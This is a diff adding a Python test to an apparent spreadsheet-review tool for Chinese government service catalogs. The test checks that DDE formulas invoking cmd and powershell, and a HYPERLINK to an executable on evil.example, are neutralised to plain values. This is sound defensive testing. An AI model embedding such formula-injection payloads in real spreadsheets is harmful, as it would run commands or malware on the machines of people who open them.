@@ -712,3 +712,38 @@ def test_in_cell_rich_text_is_kept_and_formula_like_rich_text_stays_text(
     assert ws["E7"].comment.text.startswith("【设定依据未引用法规】第7行「设定依据」")
     assert str(ws["B6"].value) == "=公章刻制（修改）"
     assert ws["B6"].quotePrefix
+
+
+def test_formulas_reaching_outside_become_the_values_read(tmp_path: Path) -> None:
+    """A DDE formula (=cmd|' /C calc'!A0 showing a phone number), a HYPERLINK to a file:// exe
+    and a defined name calling cmd come back in the marked copy as the values the review
+    read, not live; the department's own sums stay formulas."""
+    import xlsxwriter
+
+    from catalog_check.review import review_file
+
+    header = ["序号", "事项名称", "事项类型", "实施部门", "设定依据", "受理条件", "申请材料",
+              "办理流程", "承诺办结时限", "跑动次数", "咨询电话", "备注"]
+    row = [1, "保安服务公司设立许可", "行政许可", "浙江省公安厅", "《保安服务管理条例》第八条",
+           "有不低于人民币100万元的注册资本", "1.设立申请书", "受理→审查→决定", "10个工作日", 1]
+    source = tmp_path / "省公安厅-第二批.xlsx"
+    book = xlsxwriter.Workbook(str(source))
+    ws = book.add_worksheet("事项清单")
+    ws.write_row(0, 0, header)
+    ws.write_row(1, 0, row)
+    ws.write_formula(1, 10, "=cmd|' /C calc'!A0", None, "0571-87280114")
+    ws.write_formula(1, 11, '=HYPERLINK("file://evil.example/x.exe","办事指南")', None, "办事指南")
+    ws.write_formula(2, 9, "=SUM(J2:J2)", None, 1)
+    book.define_name("审核", "=cmd|' /C powershell'!A0")
+    book.define_name("合计", "=事项清单!$J$2")
+    book.close()
+    full = review_file(source)
+    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
+                            tmp_path / "m.xlsx")
+    wb = openpyxl.load_workbook(out)
+    sheet = wb["事项清单"]
+    assert (sheet["K2"].data_type, sheet["K2"].value) == ("s", "0571-87280114")
+    assert (sheet["L2"].data_type, sheet["L2"].value) == ("s", "办事指南")
+    assert (sheet["J3"].data_type, sheet["J3"].value) == ("f", "=SUM(J2:J2)")
+    assert "审核" not in wb.defined_names
+    assert wb.defined_names["合计"].attr_text == "事项清单!$J$2"
